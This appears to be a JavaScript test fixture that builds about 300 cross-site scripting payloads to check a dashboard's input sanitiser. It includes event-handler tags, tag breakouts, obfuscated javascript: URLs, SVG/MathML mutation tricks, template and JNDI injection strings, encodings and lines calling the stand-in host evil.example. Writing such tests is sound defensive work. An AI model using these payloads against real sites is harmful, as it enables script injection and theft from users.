// What somebody who wants a script to run in the dashboard would write: S-79 asks for 300 different ones. Each sets
// `globalThis.ran` if it runs.

const RUN = 'globalThis.ran=1';

/** Elements that run something by an event of their own, without anybody touching them. */
const EVENTS = {
  img: ['src=x onerror', 'src=/icon.svg onload', 'srcset=x onerror'], image: ['src=x onerror'], svg: ['onload'], body: ['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onscroll'],
  iframe: ['onload', 'src=x onload'], video: ['src=x onerror', 'onloadstart src=x onerror'], audio: ['src=x onerror', 'autoplay src=x oncanplay'], source: ['src=x onerror'],
  input: ['autofocus onfocus', 'type=image src=x onerror'], select: ['autofocus onfocus'], textarea: ['autofocus onfocus'], button: ['autofocus onfocus', 'popovertarget=x onclick'],
  details: ['open ontoggle'], marquee: ['onstart', 'loop=1 onfinish'], object: ['data=x onerror'], embed: ['src=x onerror'], link: ['rel=stylesheet href=x onerror', 'rel=stylesheet href=/assets/app.css onload'],
  style: ['onload'], script: ['src=x onerror'], div: ['tabindex=0 autofocus onfocus', 'onmouseover', 'style=animation:x onanimationstart', 'contenteditable autofocus onfocus', 'popover onbeforetoggle'],
  a: ['href=# onclick', 'tabindex=0 autofocus onfocus'], form: ['onsubmit', 'onformdata'], track: ['src=x onerror'], meter: ['onmouseover'], dialog: ['open onclose'], keygen: ['autofocus onfocus'],
  frameset: ['onload'], xss: ['tabindex=1 autofocus onfocus', 'onpointerenter'], portal: ['src=x onload'], math: ['href=x onclick'], table: ['background=x onerror'], isindex: ['action=x onfocus autofocus'],
};

/** How a tag may be written so that a filter for the plain form misses it. */
const WRITINGS = [
  (tag, event) => `<${tag} ${event}="${RUN}">`,
  (tag, event) => `<${tag.toUpperCase()} ${event.replace(/on/, 'oN')}=${RUN}>`,
  (tag, event) => `"><${tag}/${event.replaceAll(' ', '/')}='${RUN}'//`,
];

/** What an attribute, a comment or an element of the page would have to be left by first. */
const BREAKS = ['"', "'", '`', '">', "'>", '-->', '--!>', ']]>', '*/', '</title>', '</textarea>', '</style>', '</script>', '</template>', '</noscript>', '</select>', '</option>', '</code>', '</td></tr></table>', '</svg>', '</math>', '\\"', "\\'", '%22%3E', '</xmp>', '</iframe>'];

const URLS = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'java\u0000script:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', 'javascript\u003a', 'feed:javascript:', 'view-source:javascript:',
  'jar:javascript:', 'vbscript:', 'livescript:', 'data:text/html,<script>', 'data:text/html;base64,', 'data:image/svg+xml,<svg onload=', 'blob:javascript:', 'filesystem:javascript:', 'x:javascript:', '//evil.example/x.js#', 'https:javascript:',
].map((scheme) => `${scheme}${RUN}`);

const PLACES = [(url) => `<a href="${url}">x</a>`, (url) => `[x](${url})`, (url) => url];

const SVG = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`, `<svg><animateTransform onbegin=${RUN}>`, `<svg><animate attributeName=href values=javascript:${RUN} /><a id=x>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><foreignObject><iframe onload=${RUN}></foreignObject>`, `<svg><image href=x onerror=${RUN}>`, `<svg><style><img src=x onerror=${RUN}></style>`, `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`, `<svg><title><a id="</title><img src=x onerror=${RUN}>">`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`, `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`, `{{$on.constructor('${RUN}')()}}`, `{{_c.constructor('${RUN}')()}}`, `{{7*7}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `<% ${RUN} %>`, `[[${RUN}]]`, `@{${RUN}}`, `*{${RUN}}`, `{% raw %}${RUN}{% endraw %}`, `{{= ${RUN} }}`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`, `<x ng-app ng-init="${RUN}">`, `<x v-on:click="${RUN}" v-html="1">`, `<x x-data x-init="${RUN}">`, `<x hx-on:load="${RUN}">`, `<x data-bind="text: ${RUN}">`, `__proto__`, `constructor`, `toString`, '%s%n%x', '${jndi:ldap://x}',
];

const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&#x3c;script&#x3e;${RUN}`, `&LT;script&GT;${RUN}`, `\\u003cscript\\u003e${RUN}`, `\\x3cscript\\x3e${RUN}`, `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}`, `＜script＞${RUN}＜/script＞`, `‹script›${RUN}`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`, `<ſcript>${RUN}</ſcript>`, `<script\u2028>${RUN}</script>`, `<script\u00a0>${RUN}</script>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `¼script¾${RUN}¼/script¾`, `<script\u00ad>${RUN}`, `<\u0000script>${RUN}`, `<script/x>${RUN}</script>`, `<script>${RUN}<!--`, `<<script>${RUN}//<</script>`, `<script ~~~>${RUN}</script ~~~>`,
  `<scrıpt>${RUN}</scrıpt>`, `<script type=module>${RUN}</script>`, `<script>/*\u2029*/${RUN}</script>`, `<!--<script>${RUN}//-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
];

const STYLES = [
  `<style>@import '//evil.example/x.css'</style>`, `<style>*{background:url(javascript:${RUN})}</style>`, `<div style="width:expression(${RUN})">`, `<div style="background:url('//evil.example/x')">`, `<link rel=import href="data:text/html,<script>${RUN}</script>">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<base href="//evil.example/">`, `<base href="javascript:/a/">`, `<iframe srcdoc="<script>${RUN}</script>">`, `<iframe src="javascript:${RUN}">`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<form action="javascript:${RUN}"><button autofocus>`, `<button form=x formaction="javascript:${RUN}">`, `<input onauxclick=${RUN}>`,
  `<form id=app><input name=children>`, `<img name=body>`, `<a id=toasts><a id=toasts name=append>`, `<form name=forms>`, `<iframe name=globalThis>`, `<img src="//evil.example/pixel">`, `<a href="//evil.example" ping="//evil.example">x</a>`, `<video poster="//evil.example/x">`,
];

const TURNED = [
  '\u202egnp.exe', '\u2066<script>\u2069', '\u202e>tpircs/<1=nar.sihTlabolg>tpircs<\u202c', 'admin\u200f.example', 'safe\u2067 <b>unsafe</b>', '\u061cx', 'pay\u200bpal', 'раypal', '\u{e0041}\u{e0042}', 'a\u0301\u0302\u0303\u0304'.repeat(8), '﷽'.repeat(20), '\ufeffname', 'x\u2028y', 'x\u2029y', '\u202a\u202b\u202d\u202e', '𝒔𝒄𝒓𝒊𝒑𝒕',
];

/** All of them, each once. */
export const payloads = [...new Set([
  ...Object.entries(EVENTS).flatMap(([tag, events]) => events.flatMap((event) => WRITINGS.map((write) => write(tag, event)))),
  ...BREAKS.map((out) => `${out}<script>${RUN}</script>`), ...BREAKS.slice(0, 12).map((out) => `${out} autofocus onfocus=${RUN} x=`),
  ...URLS.flatMap((url) => PLACES.map((place) => place(url))),
  ...SVG, ...TEMPLATES, ...ENCODED, ...STYLES, ...TURNED,
])];
